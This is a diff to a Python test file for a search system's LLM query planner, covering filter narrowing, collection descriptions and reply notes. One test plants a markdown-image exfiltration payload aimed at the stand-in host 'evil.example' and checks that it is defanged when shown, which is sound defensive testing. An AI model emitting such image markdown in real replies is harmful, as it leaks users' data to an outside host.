@@ -11,6 +11,7 @@ from rag.config.profiles import MultiQueryStage
 from rag.corpus import Access, Principal
 from rag.errors import ConfigurationError
 from rag.models.chat import open_chat
+from rag.store.collections import describe_collection
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -117,23 +118,19 @@ async def test_similarity_stays_that_to_the_question(
 NARROWED: dict[str, tuple[dict[str, Any], dict[str, Any], set[str]]] = {
     "neither": ({}, {}, {"1650", "2005", "2020", "letter", "pendulum"}),
     "the request by a filter": ({"filter": SINCE_2000}, {}, {"2005", "2020", "pendulum"}),
-    "the query by a filter": ({}, {"conditions": [_year("$lt", "2010")]}, {"1650", "2005", "pendulum"}),
-    "both by filters": (
-        {"filter": SINCE_2000},
-        {"conditions": [_year("$lt", "2010")]},
-        {"2005", "pendulum"},
-    ),
+    "the query by a filter": ({}, {"conditions": [_year("$lt", "2010")]}, {"1650", "2005"}),
+    "both by filters": ({"filter": SINCE_2000}, {"conditions": [_year("$lt", "2010")]}, {"2005"}),
     "both by filters that exclude each other": (
         {"filter": SINCE_2000},
         {"conditions": [_year("$lt", "1999")]},
         {"pendulum"},
     ),
-    "the query by a collection": ({}, {"collections": ["letters"]}, {"letter", "pendulum"}),
+    "the query by a collection": ({}, {"collections": ["letters"]}, {"letter"}),
     "the request by a collection": ({"collections": ("letters",)}, {}, {"letter"}),
     "both by the same collection": (
         {"collections": ("clocks",)},
         {"collections": ["clocks"]},
-        {"1650", "2005", "2020", "pendulum"},
+        {"1650", "2005", "2020"},
     ),
     "each by another collection": ({"collections": ("clocks",)}, {"collections": ["letters"]}, {"pendulum"}),
 }
@@ -152,14 +149,64 @@ async def test_a_query_narrows_what_the_request_allows_and_never_widens_it(
     assert (_titles(await _asked(planning, **request_)), planning.alarms) == (found, 0)
 
 
+async def test_a_planned_condition_holds_for_every_query_and_the_reply_says_which(
+    clocks: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
+) -> None:
+    since: dict[str, object] = {"conditions": [_year("$gte", "2010")]}
+    chat_server.script = [chats.saying(_planned(since)), chats.saying(_rephrased("old horologium"))]
+    for stages in (["planner"], ["planner", "multi_query"]):
+        chat_server.requests.clear()
+        desk = clocks.desk(chat=chat, stages=[{"stage": stage} for stage in stages])
+        answer = await _asked(desk)
+        assert _titles(answer) == {"2020", "pendulum"}  # of 2010; found by meaning
+        assert answer.notes == ('The search kept to what was planned: {"year": {"$gte": 2010}}.',)
+
+
+async def test_the_question_joins_a_plan_that_narrows_nothing_or_asks_for_it(
+    planning: Desk, chats: ModuleType, chat_server: Endpoint
+) -> None:
+    chat_server.script = [chats.saying(_planned({"query": "letter"}))]
+    answer = await _asked(planning)
+    assert (_titles(answer), answer.notes) == ({"letter", "pendulum"}, ())
+    chat_server.script = [chats.saying(_planned({"query": "Pendulum"}, {"collections": ["letters"]}))]
+    assert _titles(await _asked(planning)) == {"letter", "pendulum"}
+
+
+@pytest.mark.parametrize("thresholds", [{}, {"min_similarity": 0.1}])
+async def test_where_the_plan_finds_nothing_the_question_is_searched_for_and_that_is_said(
+    clocks: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint, thresholds: dict[str, float]
+) -> None:
+    chat_server.script = [chats.saying(_planned({"conditions": [_year("$gt", "2030")]}))]
+    desk = clocks.desk(chat=chat, mode="sparse", thresholds=thresholds, stages=[{"stage": "planner"}])
+    answer = await _asked(desk)
+    assert _titles(answer) == {"pendulum"}
+    assert answer.notes == (
+        'The search kept to what was planned: {"year": {"$gt": 2030}}.',
+        "That finds nothing, so the question was searched for without a plan.",
+    )
+
+
+async def test_what_a_plan_kept_to_is_safe_to_show(
+    shelf: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
+) -> None:
+    await shelf.declare("clocks", maker="string")
+    await shelf.put("one", "horologium", collection="clocks")
+    image = "![x](http://evil.example/?q=secret)"
+    maker: dict[str, object] = {"field": "maker", "operator": "$ne", "values": [image]}
+    chat_server.script = [chats.saying(_planned({"conditions": [maker]}))]
+    answer = await _asked(shelf.desk(chat=chat, stages=[{"stage": "planner"}]))
+    assert _titles(answer) == {"one"}
+    assert answer.notes == (f'The search kept to what was planned: {{"maker": {{"$ne": "! {image[1:]}"}}}}.',)
+
+
 async def test_a_query_stays_among_the_sources_of_the_request(
     planning: Desk, chats: ModuleType, chat_server: Endpoint
 ) -> None:
     chat_server.script = [chats.saying(_planned({"conditions": [_year("$gt", "1000")]}))]
     ids = {hit.source.title: hit.source.id for hit in (await _asked(planning)).hits}
-    assert ids.keys() == {"1650", "2005", "2020", "pendulum"}
+    assert ids.keys() == {"1650", "2005", "2020"}
     assert _titles(await _asked(planning, sources=(ids["2005"],))) == {"2005"}
-    left = await _asked(planning, exclude_sources=(ids["2005"], ids["pendulum"]))
+    left = await _asked(planning, exclude_sources=(ids["2005"],))
     assert _titles(left) == {"1650", "2020"}
     assert planning.alarms == 0
 
@@ -168,11 +215,11 @@ async def test_a_query_finds_what_the_principal_may_see_and_nothing_else(
     planning: Desk, chats: ModuleType, chat_server: Endpoint, blind: Callable[[], None]
 ) -> None:
     chat_server.script = [chats.saying(_planned({"conditions": [_year("$gt", "2005")]}))]
-    assert _titles(await _asked(planning, ANN)) == {"hidden", "2020", "pendulum"}
-    assert _titles(await _asked(planning)) == {"2020", "pendulum"}
+    assert _titles(await _asked(planning, ANN)) == {"hidden", "2020"}
+    assert _titles(await _asked(planning)) == {"2020"}
     assert planning.alarms == 0
     blind()
-    assert _titles(await _asked(planning)) == {"2020", "pendulum"}
+    assert _titles(await _asked(planning)) == {"2020"}
     assert planning.alarms == 1
 
 
@@ -180,14 +227,18 @@ async def test_the_planner_is_told_the_collections_that_are_searched_and_no_othe
     planning: Desk, clocks: Shelf, chats: ModuleType, chat_server: Endpoint
 ) -> None:
     await clocks.put("diary", "pendulum", collection="diaries", access=ONLY_ANN)
+    made = {one.name: one for one in await planning.collections(ANN)}
+    await describe_collection(clocks.data, made["letters"], "what was written")
+    await describe_collection(clocks.data, made["diaries"], "Ann's secrets")
     chat_server.script = [chats.saying(_planned())]
     for principal, named, told in [
-        (ME, None, ["clocks", "letters"]),
-        (ANN, None, ["clocks", "diaries", "letters"]),
-        (ANN, ("letters",), ["letters"]),
+        (ME, None, {"clocks": None, "letters": "what was written"}),
+        (ANN, None, {"clocks": None, "diaries": "Ann's secrets", "letters": "what was written"}),
+        (ANN, ("letters",), {"letters": "what was written"}),
     ]:
         await _asked(planning, principal, collections=named)
-        assert [one["name"] for one in chats.contents(chat_server)[-1]["collections"]] == told
+        collections = chats.contents(chat_server)[-1]["collections"]
+        assert {one["name"]: one.get("description") for one in collections} == told
 
 
 async def test_a_query_outside_of_the_request_is_left_out_with_a_note(
@@ -198,7 +249,8 @@ async def test_a_query_outside_of_the_request_is_left_out_with_a_note(
     assert answer.notes == (
         "The stage planner left out a query: this search covers no collection 'letters'.",
     )
-    assert not (await _asked(planning)).notes
+    (kept,) = (await _asked(planning)).notes
+    assert kept == "The search kept to what was planned: letters."
 
 
 async def test_a_query_whose_filter_fits_on_no_request_is_left_out_and_the_others_are_asked(
@@ -212,14 +264,15 @@ async def test_a_query_whose_filter_fits_on_no_request_is_left_out_and_the_other
             "One sub-query was skipped because its filter can't be combined with the request's "
             "(filter is nested deeper than 5 levels)."
         ),
+        'The search kept to what was planned: {"year": {"$lt": 2010}}.',
     )
-    assert [stage.warnings for stage in answer.steps if stage.name == "embed"] == [answer.notes]
+    assert [stage.warnings for stage in answer.steps if stage.name == "embed"] == [answer.notes[:1]]
     assert _titles(answer) == {"2005", "2020", "pendulum"}
     assert answer.trace
     queries = answer.trace.queries
     assert [one.text for one in queries] == ["pendulum", "horologium", "iron horologium"]
     listed = {one.query for listings in answer.trace.listings.values() for one in listings}
-    assert listed == {0, 2}
+    assert listed == {2}
     assert _titles(await _asked(planning, filter=SINCE_2000)) == {"2005", "2020", "pendulum"}
 
 
@@ -232,15 +285,15 @@ async def test_a_trace_tells_the_queries_and_which_of_them_found_a_chunk(
     assert answer.trace
     assert answer.trace.queries == (
         SubQuery("pendulum"),
-        SubQuery("horologium", 0.5, "why", ("clocks",), {"year": {"$lt": 2010}}),
+        SubQuery("horologium", 0.5, "why", ("clocks",), {"year": {"$lt": 2010}}, planned=True),
     )
     listed = {
         hit.source.title: [one.query for one in answer.trace.listings[hit.chunk.id]] for hit in answer.hits
     }
-    assert listed == {"pendulum": [0], "1650": [1], "2005": [1]}
+    assert listed == {"1650": [1], "2005": [1]}
     counts = {stage.name: (stage.before, stage.after) for stage in answer.steps}
     assert counts["planner"] == (1, 2)
-    assert counts["recall"] == (None, 3)
+    assert counts["recall"] == (None, 2)
 
 
 @pytest.mark.parametrize("mode", MODES)
